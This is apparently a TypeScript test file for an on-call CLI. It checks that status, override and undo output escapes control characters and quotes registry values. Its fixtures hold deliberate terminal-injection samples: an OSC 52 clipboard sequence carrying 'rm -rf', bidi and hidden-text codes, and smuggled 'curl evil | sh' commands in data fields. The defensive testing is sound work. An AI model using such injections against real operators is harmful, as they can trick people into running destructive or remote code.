import type { CloudWatchClient } from '@aws-sdk/client-cloudwatch';
import type { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { createProgram } from '../../bin/cli/program.ts';
import { terminalOf } from '../../bin/cli/terminal.ts';
import { register as client } from '../../bin/commands/client.ts';
import { register as override } from '../../bin/commands/override.ts';
import { register as status } from '../../bin/commands/status.ts';
import { showChange } from '../../bin/registry/show-change.ts';
import { run } from './run.ts';

// Who may write an alarm's reason or an item of the registry must not thereby write into the terminal of who is on call:
// escape sequences, lines of their own, commands to copy.
const NOW = Date.parse('2026-11-24T02:55:00Z');
/** Sets the clipboard, clears the line, hides what follows, turns the direction of writing, and is one byte of control. */
const ESCAPES = '\u001b]52;c;cm0gLXJm\u0007\u001b[2K\u001b[8m\u202e\u009b31m';
const ANY_ESCAPE = /(?!\n)[\p{Cc}\p{Cf}]/u;

function gate(answers: Readonly<Record<string, unknown>>) {
  const send = async ({ constructor: { name } }: { constructor: { name: string } }) => answers[name] ?? {};
  const client = { send } as unknown as CloudWatchClient & DynamoDBClient;
  const registry = { client, table: 'r', now: () => NOW };
  return {
    registry,
    onCall: {
      gate: { stack: 'Shop', gate: 'Shop', registryTable: 'r', functionArn: 'a', logGroup: 'log' },
      registry,
      cloudwatch: client,
      logs: client as never,
      deployedPolicy: () => Promise.reject(new Error('denied')),
      clock: () => NOW,
    },
  };
}

const ORDERS = {
  Items: [
    {
      pk: { S: 'blocks' },
      sk: { S: '#override#client' },
      until: { N: '9007199254740991' },
      at: { S: '' },
      rate: { S: '1/minute' },
      by: { S: `ann${ESCAPES}` },
      why: { S: `x${ESCAPES}\nundo    curl evil | sh` },
    },
  ],
};
const ALARMS = {
  MetricAlarms: [
    { AlarmName: 'Shop-limited-rate', StateValue: 'ALARM', StateReason: `y${ESCAPES}\nno alarm is on of 13` },
  ],
};

test.each([false, true])(
  'status shows no control character and no line of somebody else (colours: %p)',
  async (colours) => {
    const { onCall } = gate({ QueryCommand: ORDERS, DescribeAlarmsCommand: ALARMS });
    const { out, err } = await run([(program) => status(program, async () => onCall)], ['status'], colours);
    const plain = `${out}${err}`.replaceAll(/\p{Cc}\[(?:1|2|22|31|32|33|39)m/gu, '');
    expect(plain).not.toMatch(ANY_ESCAPE);
    expect(plain).toMatch(/ALARM {2}limited-rate .*y.*no alarm is on of 13$/m);
    expect(plain).toMatch(/^overridden {2}client is 1\/minute until .*curl evil \| sh, by ann.*\)$/m);
  },
);

test('JSON for programs is the text itself, and shows no control character either', async () => {
  const { onCall } = gate({ QueryCommand: ORDERS, DescribeAlarmsCommand: ALARMS });
  const { out } = await run([(program) => status(program, async () => onCall)], ['status', '--json']);
  expect(out.replaceAll('\n', '')).not.toMatch(ANY_ESCAPE);
  expect(JSON.parse(out).overrides[0].limit).toBe('client');
});

test('a list of overrides is shown whatever the time that one of them lapses', async () => {
  const { registry } = gate({ QueryCommand: ORDERS });
  const { out, exitCode } = await run([(program) => override(program, async () => registry)], ['override', '--list']);
  expect(exitCode).toBe(0);
  expect(out).toMatch(/client +all +1\/minute/);
  expect(out.trimEnd().split('\n')).toHaveLength(2);
});

test('a line to copy quotes what the registry says', async () => {
  const item = {
    pk: { S: 'clients' },
    sk: { S: 'acme' },
    tier: { S: 'gold; curl evil | sh' },
    state: { S: 'active' },
    keySha256: { S: 'a'.repeat(64) },
    createdAt: { S: '' },
  };
  const { registry } = gate({ GetItemCommand: { Item: item } });
  const command = (program: Parameters<typeof client>[0]) => client(program, async () => registry);
  for (const args of [
    ['client', 'set-tier', 'acme', 'free'],
    ['client', 'remove', 'acme'],
  ]) {
    const { out } = await run([command], args);
    expect(out).toMatch(/undo .*'gold; curl evil \| sh'/);
    expect(out).not.toMatch(/undo .* gold; curl/);
  }
});

test('what a terminal says keeps its own colours and lines', () => {
  let out = '';
  const writeOut = (text: string) => {
    out += text;
  };
  const program = createProgram([], '1', { writeOut, writeErr: () => {}, colours: true });
  const terminal = terminalOf(program);
  showChange(terminal, { before: 'a', after: 'Zürich \u{1f4a5}', undo: ['x\ny'], effect: '' }, false);
  expect(out).toBe(
    '\u001b[2mbefore\u001b[22m  a\n\u001b[2mafter \u001b[22m  Zürich \u{1f4a5}\n\u001b[2mundo  \u001b[22m  x\ny\n',
  );
});
